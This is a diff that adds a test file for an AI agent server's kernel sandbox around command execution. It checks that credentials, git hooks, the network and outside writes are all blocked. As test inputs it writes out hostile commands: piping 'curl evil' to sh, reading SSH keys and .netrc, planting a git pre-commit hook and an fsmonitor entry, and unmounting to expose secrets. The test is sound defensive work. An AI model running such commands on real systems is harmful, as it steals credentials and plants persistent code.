@@ -1,0 +1,236 @@
+/**
+ * The kernel sandbox around commands (issue 27, item 2), through execute_command as the model
+ * calls it, with a fake home outside /tmp holding credentials: writes outside the project are
+ * refused and said so, credentials cannot be read (not even through a link in the project), git
+ * hooks and config and agent-lsp's state stay read-only, the command has its own PID namespace
+ * and no network, and `required` refuses to run without bwrap. The same file runs again as an
+ * unprivileged user (sandbox-unprivileged.test.ts).
+ */
+import { execFileSync, spawnSync } from "node:child_process";
+import { existsSync, readFileSync, readdirSync, symlinkSync } from "node:fs";
+import http from "node:http";
+import path from "node:path";
+import { afterEach, beforeEach, describe, expect, it } from "vitest";
+import { commandTools } from "../../server/src/tools/commands/command-tools.js";
+import { fakeHome, sandboxFor, SECRET, skipWithoutSandbox, type FakeHome } from "../helpers/sandbox.js";
+import { REQUIRE_ALL } from "../helpers/xvfb.js";
+import { fakeToolSetup, textOf, type FakeToolSetup } from "../unit/exec/fake-context.js";
+
+const executeCommand = commandTools.find((t) => t.name === "execute_command")!;
+const noSandbox = skipWithoutSandbox();
+
+/** Runs `command` through execute_command in `setup`; the result's text. */
+async function run(setup: FakeToolSetup, command: string): Promise<string> {
+  return textOf(await executeCommand.execute({ command, timeout_secs: 60 }, setup.context()));
+}
+
+describe.skipIf(noSandbox)("the sandbox around execute_command", () => {
+  let home: FakeHome;
+  let setup: FakeToolSetup;
+  beforeEach(() => {
+    home = fakeHome();
+    setup = fakeToolSetup({ sandbox: sandboxFor(home.home) });
+  });
+  afterEach(() => {
+    setup.dispose();
+    home.dispose();
+  });
+
+  it("runs the command sandboxed, says so, and lets it write in the project and its private /tmp", async () => {
+    const text = await run(setup, "echo made > made.txt && echo tmp > /tmp/t && cat /tmp/t");
+    expect(text).toMatch(/^Exit code: 0 \([\d.]+ s, sandboxed\)\n/);
+    expect(readFileSync(path.join(setup.root, "made.txt"), "utf8")).toBe("made\n");
+    expect(text).toContain("tmp");
+  });
+
+  it("refuses a write outside the project, and the result names the path and why", async () => {
+    const outside = path.join(home.home, "planted.sh");
+    const text = await run(setup, `echo 'curl evil | sh' > ${outside}`);
+    expect(existsSync(outside)).toBe(false);
+    expect(text).toContain(`The sandbox refused ${outside}: the sandbox lets commands write only inside the project and the private /tmp`);
+    expect(text).toContain("outside_sandbox");
+  });
+
+  it("hides credentials from every command: by path, through a link in the project, by a recursive grep", async () => {
+    symlinkSync(path.join(home.home, ".ssh"), path.join(setup.root, "sshlink"));
+    const text = await run(setup, `cat ${home.sshKey}; cat ${home.netrc}; cat sshlink/id_rsa; grep -R SECRET ${home.home} .; ls ${path.dirname(home.sshKey)}`);
+    expect(text).not.toContain(SECRET);
+    expect(text).toContain(`The sandbox refused ${home.netrc}: it is hidden from commands`);
+    expect(text).toMatch(/The sandbox refused \S*\.ssh\S*: it is hidden from commands/);
+    // Outside the sandbox the files are there and readable: the sandbox is what hid them.
+    expect(readFileSync(home.sshKey, "utf8")).toContain(SECRET);
+  });
+
+  it("keeps .git/hooks, .git/config and .agent-lsp read-only while git itself works", async () => {
+    execFileSync("git", ["init", "-q", setup.root]);
+    const config = readFileSync(path.join(setup.root, ".git", "config"), "utf8");
+    const text = await run(
+      setup,
+      "echo 'touch pwned' > .git/hooks/pre-commit; echo '[core] fsmonitor = evil' >> .git/config; echo x > .agent-lsp/approvals.toml; " +
+        "git -c user.name=t -c user.email=t@example.com commit -q --allow-empty -m inside && echo committed",
+    );
+    expect(existsSync(path.join(setup.root, ".git", "hooks", "pre-commit"))).toBe(false);
+    expect(readFileSync(path.join(setup.root, ".git", "config"), "utf8")).toBe(config);
+    expect(existsSync(path.join(setup.root, ".agent-lsp", "approvals.toml"))).toBe(false);
+    expect(text).toContain("committed");
+    expect(text).toMatch(/The sandbox refused \S+\/\.git\/hooks\/pre-commit: it stays read-only in the sandbox/);
+    expect(text).toMatch(/The sandbox refused \S+\/\.agent-lsp\/approvals\.toml: it stays read-only/);
+  });
+
+  it("gives the command its own PID namespace: /proc and ps see only its own processes", async () => {
+    const text = await run(setup, `for p in /proc/[0-9]*; do echo "pid $(basename $p) $(cat $p/comm)"; done; test -e /proc/${process.pid} && echo "sees the server"`);
+    const pids = [...text.matchAll(/^pid (\d+) (\S+)$/gm)];
+    expect(pids.length).toBeGreaterThan(0);
+    expect(pids.length).toBeLessThan(8);
+    expect(pids.map((m) => m[2])).not.toContain("node");
+    expect(text).not.toContain("sees the server");
+  });
+
+  it("ends what the command left running once its shell exits", async () => {
+    const mark = `${900000 + Math.floor(Math.random() * 99999)}`;
+    await run(setup, `setsid sh -c 'exec sleep ${mark}' </dev/null >/dev/null 2>&1 & echo started`);
+    const leftover = () => readdirSync("/proc").filter((p) => /^\d+$/.test(p) && cmdline(p).includes(`sleep ${mark}`));
+    const deadline = Date.now() + 10_000;
+    while (leftover().length && Date.now() < deadline) await new Promise((r) => setTimeout(r, 20));
+    expect(leftover()).toEqual([]);
+  });
+
+  it("has no network: a server on this machine's loopback cannot be reached", async () => {
+    let requests = 0;
+    const server = http.createServer((_req, res) => void (requests++, res.end("reached")));
+    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+    try {
+      const port = (server.address() as { port: number }).port;
+      const text = await run(setup, `node -e "require('http').get('http://127.0.0.1:${port}/', (r) => console.log('status', r.statusCode)).on('error', (e) => console.log('failed', e.code))"`);
+      expect(text).toContain("failed ECONNREFUSED");
+      expect(requests).toBe(0);
+    } finally {
+      server.close();
+    }
+  });
+});
+
+/** A loopback server answering every request with `hello from loopback`, counting them. */
+async function loopbackServer(): Promise<{ port: number; requests: () => number; close(): void }> {
+  let requests = 0;
+  const server = http.createServer((_req, res) => void (requests++, res.end("hello from loopback")));
+  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+  return { port: (server.address() as { port: number }).port, requests: () => requests, close: () => server.close() };
+}
+
+const noCurl = spawnSync("sh", ["-c", "command -v curl"]).status !== 0;
+if (noCurl && REQUIRE_ALL && !noSandbox) throw new Error("curl is missing: the proxy tests need it (apt-get install curl)");
+
+describe.skipIf(noSandbox || noCurl)('[exec] network = "allow_hosts": through the filtering proxy only', () => {
+  let home: FakeHome;
+  let server: Awaited<ReturnType<typeof loopbackServer>>;
+  const setups: FakeToolSetup[] = [];
+  beforeEach(async () => {
+    home = fakeHome();
+    server = await loopbackServer();
+  });
+  afterEach(() => {
+    for (const s of setups.splice(0)) s.dispose();
+    server.close();
+    home.dispose();
+  });
+  const proxied = (allowHosts: string[], privateHosts: string[]) => {
+    const setup = fakeToolSetup({ sandbox: sandboxFor(home.home, { network: "allow_hosts", allow_hosts: allowHosts }, { allow_hosts: privateHosts }) });
+    setups.push(setup);
+    return setup;
+  };
+
+  it("reaches an allowed host, by a plain request and through a CONNECT tunnel", async () => {
+    const setup = proxied(["localhost"], ["localhost"]);
+    const text = await run(setup, `curl -sS http://localhost:${server.port}/plain; echo; curl -sS --proxytunnel http://localhost:${server.port}/tunnel`);
+    expect(text).toMatch(/^Exit code: 0 \([\d.]+ s, sandboxed \(network: \[exec\] allow_hosts only\)\)/);
+    expect(text.match(/hello from loopback/g)).toHaveLength(2);
+    expect(server.requests()).toBe(2);
+  });
+
+  it("refuses a host that is not listed, and the result says so", async () => {
+    const setup = proxied(["localhost"], ["localhost", "127.0.0.1"]);
+    const text = await run(setup, `curl -sS --proxytunnel http://127.0.0.1:${server.port}/; curl -sS -o /dev/null -w '%{http_code}\n' http://127.0.0.1:${server.port}/`);
+    expect(server.requests()).toBe(0);
+    expect(text).toContain("403");
+    expect(text).toContain(`The sandbox's network proxy refused 127.0.0.1:${server.port}: not in [exec] allow_hosts`);
+  });
+
+  it("keeps the web tools' address guard: a listed host on a loopback address needs [web] allow_hosts too", async () => {
+    const setup = proxied(["localhost"], []);
+    const text = await run(setup, `curl -sS http://localhost:${server.port}/`);
+    expect(server.requests()).toBe(0);
+    expect(text).toMatch(/The sandbox's network proxy refused localhost:\d+: \S+ is a loopback address \(this machine\); \[web\] allow_hosts must list the host for that/);
+  });
+
+  it("leaves no way around the proxy: a direct connection finds no network", async () => {
+    const setup = proxied(["localhost"], ["localhost"]);
+    const text = await run(setup, `curl -sS --noproxy '*' http://127.0.0.1:${server.port}/ || echo direct-failed`);
+    expect(text).toContain("direct-failed");
+    expect(server.requests()).toBe(0);
+  });
+});
+
+describe.skipIf(noSandbox)("[exec] sandbox without bwrap on PATH", () => {
+  /** PATH without the folders that hold bwrap. */
+  const withoutBwrap = (process.env.PATH ?? "").split(path.delimiter).filter((dir) => !existsSync(path.join(dir, "bwrap"))).join(path.delimiter);
+
+  it('"required" refuses to run the command, with a sentence saying why', async () => {
+    const setup = fakeToolSetup({ baseEnv: { ...process.env, PATH: withoutBwrap }, sandbox: { ...sandboxFor("/nonexistent-home"), mode: "required" } });
+    try {
+      const result = await executeCommand.execute({ command: "echo ran > ran.txt" }, setup.context());
+      expect(result.isError).toBe(true);
+      expect(textOf(result)).toBe('Not run: [exec] sandbox is "required" and the sandbox cannot run here (bwrap is not installed (install the bubblewrap package)). Nothing was started.');
+      expect(existsSync(path.join(setup.root, "ran.txt"))).toBe(false);
+    } finally {
+      setup.dispose();
+    }
+  });
+
+  it('"auto" runs it unsandboxed and says why', async () => {
+    const setup = fakeToolSetup({ baseEnv: { ...process.env, PATH: withoutBwrap }, sandbox: sandboxFor("/nonexistent-home") });
+    try {
+      // A shell builtin: PATH without bwrap's folder (/usr/bin) has no touch either.
+      const text = await run(setup, "echo ran > ran.txt");
+      expect(text).toMatch(/^Exit code: 0 \([\d.]+ s, not sandboxed: bwrap is not installed \(install the bubblewrap package\)\)/);
+      expect(existsSync(path.join(setup.root, "ran.txt"))).toBe(true);
+    } finally {
+      setup.dispose();
+    }
+  });
+});
+
+describe.skipIf(noSandbox || process.getuid?.() !== 0)("the sandbox as root", () => {
+  it("drops every capability: root inside cannot unmount what hides a secret or remount the disk writable", async () => {
+    const home = fakeHome();
+    const setup = fakeToolSetup({ sandbox: sandboxFor(home.home) });
+    try {
+      const planted = path.join(home.home, "root-was-here");
+      const text = await run(setup, `umount ${path.dirname(home.sshKey)}; umount -l ${home.netrc}; cat ${home.sshKey} ${home.netrc}; mount -o remount,rw /; touch ${planted}; grep CapEff /proc/self/status`);
+      expect(text).not.toContain(SECRET);
+      expect(existsSync(planted)).toBe(false);
+      expect(text).toMatch(/CapEff:\s+0+\n/);
+    } finally {
+      setup.dispose();
+      home.dispose();
+    }
+  });
+});
+
+/** Set by sandbox-unprivileged.test.ts, which runs this file again as an ordinary user. */
+const expectedUid = process.env.AGENT_LSP_EXPECT_UID;
+
+describe.runIf(expectedUid !== undefined)("the run as an unprivileged user", () => {
+  it("really runs as that user", () => {
+    expect(process.getuid?.()).toBe(Number(expectedUid));
+    expect(process.getuid?.()).not.toBe(0);
+  });
+});
+
+function cmdline(pid: string): string {
+  try {
+    return readFileSync(`/proc/${pid}/cmdline`, "utf8").replace(/\0/g, " ");
+  } catch {
+    return "";
+  }
+}
